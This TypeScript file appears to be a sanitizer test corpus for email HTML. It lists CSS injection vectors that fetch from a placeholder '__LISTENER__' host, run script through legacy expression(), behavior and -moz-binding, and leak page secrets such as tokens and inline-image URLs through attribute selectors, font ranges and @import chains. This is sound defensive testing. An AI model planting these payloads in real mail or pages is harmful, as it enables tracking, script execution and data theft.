import { family } from './vector';

/** CSS that fetches (url() in every property that takes an image) or runs script in legacy engines. */
export const CSS_FETCH_VECTORS = family('css-fetch', [
  {
    id: 'css-fetch-01',
    attempts: 'fetch',
    description: 'background url() in a style attribute',
    html: '<div style="background:url(http://__LISTENER__/css-fetch-01.gif)">x</div>',
  },
  {
    id: 'css-fetch-02',
    attempts: 'fetch',
    description: 'Quoted background-image url() in a style element',
    html: '<style>.hero{background-image:url("http://__LISTENER__/css-fetch-02.png")}</style><div class="hero">x</div>',
  },
  {
    id: 'css-fetch-03',
    attempts: 'fetch',
    description: 'list-style-image',
    html: '<ul style="list-style-image:url(http://__LISTENER__/css-fetch-03.png)"><li>x</li></ul>',
  },
  {
    id: 'css-fetch-04',
    attempts: 'fetch',
    description: 'Scheme-relative url() inside the list-style shorthand',
    html: '<ul style="list-style:square url(//__LISTENER__/css-fetch-04.png) inside"><li>x</li></ul>',
  },
  {
    id: 'css-fetch-05',
    attempts: 'fetch',
    description: 'border-image',
    html: '<div style="border:10px solid;border-image:url(http://__LISTENER__/css-fetch-05.png) 30 round">x</div>',
  },
  {
    id: 'css-fetch-06',
    attempts: 'fetch',
    description: 'cursor',
    html: '<div style="cursor:url(http://__LISTENER__/css-fetch-06.cur),auto">x</div>',
  },
  {
    id: 'css-fetch-07',
    attempts: 'fetch',
    description: 'content url() on a pseudo-element',
    html: '<style>p::before{content:url(http://__LISTENER__/css-fetch-07.png)}</style><p>x</p>',
  },
  {
    id: 'css-fetch-08',
    attempts: 'fetch',
    description: 'mask-image, prefixed and not',
    html: '<div style="-webkit-mask-image:url(http://__LISTENER__/css-fetch-08.svg);mask-image:url(http://__LISTENER__/css-fetch-08.svg)">x</div>',
  },
  {
    id: 'css-fetch-09',
    attempts: 'fetch',
    description: 'filter referencing a remote SVG filter',
    html: '<div style="filter:url(http://__LISTENER__/css-fetch-09.svg#f)">x</div>',
  },
  {
    id: 'css-fetch-10',
    attempts: 'fetch',
    description: 'clip-path referencing a remote SVG',
    html: '<div style="clip-path:url(http://__LISTENER__/css-fetch-10.svg#c)">x</div>',
  },
  {
    id: 'css-fetch-11',
    attempts: 'fetch',
    description: 'shape-outside',
    html: '<div style="float:left;shape-outside:url(http://__LISTENER__/css-fetch-11.png)">x</div>',
  },
  {
    id: 'css-fetch-12',
    attempts: 'fetch',
    description: 'image-set() with a bare string',
    html: '<div style="background-image:image-set(&quot;http://__LISTENER__/css-fetch-12.png&quot; 1x)">x</div>',
  },
  {
    id: 'css-fetch-13',
    attempts: 'fetch',
    description: '-webkit-image-set() with url()',
    html: '<div style="background-image:-webkit-image-set(url(http://__LISTENER__/css-fetch-13.png) 1x)">x</div>',
  },
  {
    id: 'css-fetch-14',
    attempts: 'fetch',
    description: 'Hex escape spelling url( in a style attribute',
    html: '<div style="background:\\75 rl(http://__LISTENER__/css-fetch-14.gif)">x</div>',
  },
  {
    id: 'css-fetch-15',
    attempts: 'fetch',
    description: 'Single-character escape inside url in a style element',
    html: '<style>p{background:u\\rl(http://__LISTENER__/css-fetch-15.gif)}</style><p>x</p>',
  },
  {
    id: 'css-fetch-16',
    attempts: 'fetch',
    description: 'Six-digit escapes spelling URL',
    html: '<div style="background:\\000055\\000052\\00004c(http://__LISTENER__/css-fetch-16.gif)">x</div>',
  },
  {
    id: 'css-fetch-17',
    attempts: 'fetch',
    description: 'Uppercase URL( with spaces and a comment before it',
    html: '<div style="background:/**/URL( http://__LISTENER__/css-fetch-17.gif )">x</div>',
  },
  {
    id: 'css-fetch-18',
    attempts: 'fetch',
    description: 'Entity-encoded quotes inside url() in an attribute',
    html: '<div style="background:url(&#x27;http://__LISTENER__/css-fetch-18.gif&#x27;)">x</div>',
  },
  {
    id: 'css-fetch-19',
    attempts: 'fetch',
    description: 'url() in a custom property used through var()',
    html: '<div style="--bg:url(http://__LISTENER__/css-fetch-19.png);background:var(--bg)">x</div>',
  },
  {
    id: 'css-fetch-20',
    attempts: 'fetch',
    description: 'background on the mail’s own body element',
    html: '<body style="background:url(http://__LISTENER__/css-fetch-20.gif)"><p>x</p></body>',
  },
  {
    id: 'css-fetch-21',
    attempts: 'fetch',
    description: '@import with a string',
    html: '<style>@import "http://__LISTENER__/css-fetch-21.css";</style>',
  },
  {
    id: 'css-fetch-22',
    attempts: 'fetch',
    description: '@import url() with a media query, before a normal rule',
    html: '<style>@import url(//__LISTENER__/css-fetch-22.css) screen;p{color:red}</style>',
  },
  {
    id: 'css-fetch-23',
    attempts: 'fetch',
    description: '@font-face src',
    html: '<style>@font-face{font-family:f;src:url(http://__LISTENER__/css-fetch-23.woff2)}p{font-family:f}</style><p>x</p>',
  },
  {
    id: 'css-fetch-24',
    attempts: 'fetch',
    description: 'url() inside @media',
    html: '<style>@media screen{.x{background:url(http://__LISTENER__/css-fetch-24.gif)}}</style><div class="x">x</div>',
  },
  {
    id: 'css-fetch-25',
    attempts: 'fetch',
    description: 'url() inside @supports',
    html: '<style>@supports (display:grid){.y{background:url(http://__LISTENER__/css-fetch-25.gif)}}</style><div class="y">x</div>',
  },
  {
    id: 'css-fetch-26',
    attempts: 'fetch',
    description: 'url() inside @layer',
    html: '<style>@layer base{.z{background:url(http://__LISTENER__/css-fetch-26.gif)}}</style><div class="z">x</div>',
  },
  {
    id: 'css-fetch-27',
    attempts: 'fetch',
    description: 'Image symbols in @counter-style',
    html: '<style>@counter-style c{system:cyclic;symbols:url(http://__LISTENER__/css-fetch-27.png);suffix:" "}ol{list-style:c}</style><ol><li>x</li></ol>',
  },
  {
    id: 'css-fetch-28',
    attempts: 'fetch',
    description: 'cross-fade() of two remote images',
    html: '<div style="background-image:cross-fade(url(http://__LISTENER__/css-fetch-28a.png),url(http://__LISTENER__/css-fetch-28b.png),50%)">x</div>',
  },
  {
    id: 'css-fetch-29',
    attempts: 'fetch',
    description: 'image() and src() functions with strings',
    html: '<div style="background-image:image(&quot;http://__LISTENER__/css-fetch-29a.png&quot;)">x</div><div style="background-image:src(&quot;http://__LISTENER__/css-fetch-29b.png&quot;)">y</div>',
  },
  {
    id: 'css-fetch-30',
    attempts: 'script',
    description: 'IE expression()',
    html: '<div style="width:expression(__PWN__)">x</div>',
  },
  {
    id: 'css-fetch-31',
    attempts: 'script',
    description: 'expression() split by a comment',
    html: '<div style="width:exp/**/ression(__PWN__)">x</div>',
  },
  {
    id: 'css-fetch-32',
    attempts: 'script',
    description: 'expression() with an escaped letter in a style element',
    html: '<style>p{width:e\\78 pression(__PWN__)}</style><p>x</p>',
  },
  {
    id: 'css-fetch-33',
    attempts: 'script',
    description: 'javascript: URL in url()',
    html: '<div style="background-image:url(javascript:__PWN__)">x</div>',
  },
  {
    id: 'css-fetch-34',
    attempts: 'fetch',
    description: 'IE behavior loading a remote HTC component',
    html: '<div style="behavior:url(http://__LISTENER__/css-fetch-34.htc)">x</div>',
  },
  {
    id: 'css-fetch-35',
    attempts: 'fetch',
    description: 'Firefox -moz-binding loading remote XBL',
    html: '<div style="-moz-binding:url(http://__LISTENER__/css-fetch-35.xml#xss)">x</div>',
  },
]);

/**
 * CSS that reads the page and reports what it found: attribute selectors and :has() matching attribute
 * values (the signed inline-image URL carries secrets), font ranges that reveal which characters appear,
 * and @import chains that drive a character-by-character search.
 */
export const CSS_LEAK_VECTORS = family('css-leak', [
  {
    id: 'css-leak-01',
    attempts: 'css-leak',
    description: 'Prefix selector on an input value',
    html: '<style>input[value^="a"]{background:url(http://__LISTENER__/css-leak-01/a)}</style><input value="abc">',
  },
  {
    id: 'css-leak-02',
    attempts: 'css-leak',
    description: 'Substring selector on the inline-image URL',
    html: '<style>img[src*="/api/inline/"]{background:url(http://__LISTENER__/css-leak-02/inline)}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-03',
    attempts: 'css-leak',
    description: 'Substring selector on a link token',
    html: '<style>a[href*="token="]{background:url(http://__LISTENER__/css-leak-03/token)}</style><a href="https://contoso.test/?token=x">x</a>',
  },
  {
    id: 'css-leak-04',
    attempts: 'css-leak',
    description: ':has() on the body matching an image URL prefix',
    html: '<style>body:has(img[src^="/api/inline/a"]){background:url(http://__LISTENER__/css-leak-04/a)}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-05',
    attempts: 'css-leak',
    description: 'Case-insensitive suffix selector',
    html: '<style>img[src$="A" i]{border-image:url(http://__LISTENER__/css-leak-05/a) 1}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-06',
    attempts: 'css-leak',
    description: 'Attribute selector inside @media',
    html: '<style>@media all{[src^="/"]{list-style-image:url(http://__LISTENER__/css-leak-06/slash)}}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-07',
    attempts: 'css-leak',
    description: 'Attribute selector inside :not() and :is()',
    html: '<style>:is(img):not([src^="b"]){cursor:url(http://__LISTENER__/css-leak-07/not-b),auto}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-08',
    attempts: 'css-leak',
    description: 'Attribute selector reported through a sibling',
    html: '<style>[data-id^="1"]~p{background:url(http://__LISTENER__/css-leak-08/one)}</style><span data-id="123"></span><p>x</p>',
  },
  {
    id: 'css-leak-09',
    attempts: 'css-leak',
    description: 'Attribute name spelled with an escape',
    html: '<style>img[\\73 rc^="/"]{background:url(http://__LISTENER__/css-leak-09/s)}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-10',
    attempts: 'css-leak',
    description: 'Attribute selector inside a nested rule',
    html: '<style>img{&[src^="/"]{background:url(http://__LISTENER__/css-leak-10/n)}}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-11',
    attempts: 'css-leak',
    description: 'Attribute selector on the reader’s own body attributes',
    html: '<style>body[class]{background:url(http://__LISTENER__/css-leak-11/class)}</style><p>x</p>',
  },
  {
    id: 'css-leak-12',
    attempts: 'css-leak',
    description: '@font-face unicode-range reveals which letters the text contains',
    html: '<style>@font-face{font-family:leak;src:url(http://__LISTENER__/css-leak-12/a);unicode-range:U+0061}body{font-family:leak,sans-serif}</style><p>account number</p>',
  },
  {
    id: 'css-leak-13',
    attempts: 'css-leak',
    description: 'Remote @import that starts a recursive selector search',
    html: '<style>@import url(http://__LISTENER__/css-leak-13/start.css);</style>',
  },
  {
    id: 'css-leak-14',
    attempts: 'css-leak',
    description: 'attr() rendered in a remote ligature font',
    html: '<style>@font-face{font-family:lig;src:url(http://__LISTENER__/css-leak-14/lig.woff)}img::after{content:attr(src);font-family:lig}</style><img src="cid:logo">',
  },
  {
    id: 'css-leak-15',
    attempts: 'css-leak',
    description: 'Visited-link styling to probe history',
    html: '<style>a:visited{background:url(http://__LISTENER__/css-leak-15/visited)}</style><a href="https://login.microsoftonline.com/">x</a>',
  },
  {
    id: 'css-leak-16',
    attempts: 'css-leak',
    description: 'Pattern validity as a value oracle, without attribute selectors',
    html: '<style>input:valid{background:url(http://__LISTENER__/css-leak-16/valid)}</style><input pattern="a.*" value="abc">',
  },
]);
